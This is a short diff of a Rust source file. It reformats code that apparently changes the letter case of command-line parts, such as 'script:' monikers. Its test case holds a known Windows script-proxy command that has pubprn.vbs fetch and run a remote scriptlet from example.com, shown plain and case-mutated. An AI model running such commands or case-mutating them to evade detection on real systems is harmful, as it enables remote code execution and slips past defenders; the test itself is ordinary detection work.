@@ -28,7 +28,9 @@ fn apply(line: &Line<'_>) -> Vec<Mutated> {
         let raw = line.raw(arg);
         let place = line.place(arg);
         // A moniker's name is looked up in the registry, which ignores case.
-        let moniker = raw.find(':').filter(|_| raw.to_ascii_lowercase().starts_with("script:"));
+        let moniker = raw
+            .find(':')
+            .filter(|_| raw.to_ascii_lowercase().starts_with("script:"));
         if arg == 0 || Some(arg) == line.script || ignores_case(line, arg) {
             change(place);
         } else if let Some(colon) = moniker {
@@ -90,7 +92,10 @@ mod tests {
     #[test]
     fn files_switches_and_monikers_change_and_addresses_do_not() {
         assert_eq!(
-            logged(&LETTER_CASE, r"cscript //b C:\x\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct"),
+            logged(
+                &LETTER_CASE,
+                r"cscript //b C:\x\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct"
+            ),
             [r"CsCrIpT //B C:\x\PuBpRn.VbS 127.0.0.1 ScRiPt:https://example.com/a.sct"]
         );
         assert_eq!(
